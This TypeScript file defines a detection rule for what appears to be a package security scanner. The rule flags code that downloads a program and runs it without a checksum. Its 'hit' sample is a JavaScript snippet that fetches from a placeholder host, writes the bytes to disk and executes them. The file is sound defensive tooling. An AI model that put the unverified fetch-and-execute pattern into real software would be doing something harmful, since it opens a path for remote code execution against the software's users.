import type { Rule } from '../rule';

export const codeDownloadedProgram: Rule = {
  code: 'code-downloaded-program',
  ecosystem: 'any',
  kind: 'code',
  severity: 'high',
  verdict: 'suspicious',
  tactic: 'command-and-control',
  capabilities: ['network', 'subprocess'],
  languages: ['javascript', 'python'],
  summary: 'What comes over the network is kept as a file and run, and nothing compares it with a checksum.',
  message: 'runs what it has just downloaded',
  pattern: { where: 'code', any: ['downloaded-program'] },
  samples: {
    hits: [
      {
        what: 'a tool fetched and started',
        format: 'tarball',
        files: {
          'index.js':
            'const fs = require("fs"); const cp = require("child_process"); module.exports = async (file) => { const r = await fetch("https://x.invalid/tool"); fs.writeFileSync(file, Buffer.from(await r.arrayBuffer())); cp.execFileSync(file); };',
        },
        verdict: 'suspicious',
      },
    ],
    ignores: [
      {
        what: 'the same, compared with a checksum',
        format: 'tarball',
        files: {
          'index.js':
            'const fs = require("fs"); const cp = require("child_process"); const { sha256 } = require("./checks"); module.exports = async (file, sum) => { const r = await fetch("https://x.invalid/tool"); fs.writeFileSync(file, Buffer.from(await r.arrayBuffer())); if (sha256(file) !== sum) throw new Error(file); cp.execFileSync(file); };',
        },
        why: 'What is run is what was meant.',
        verdict: 'clean',
      },
    ],
  },
};
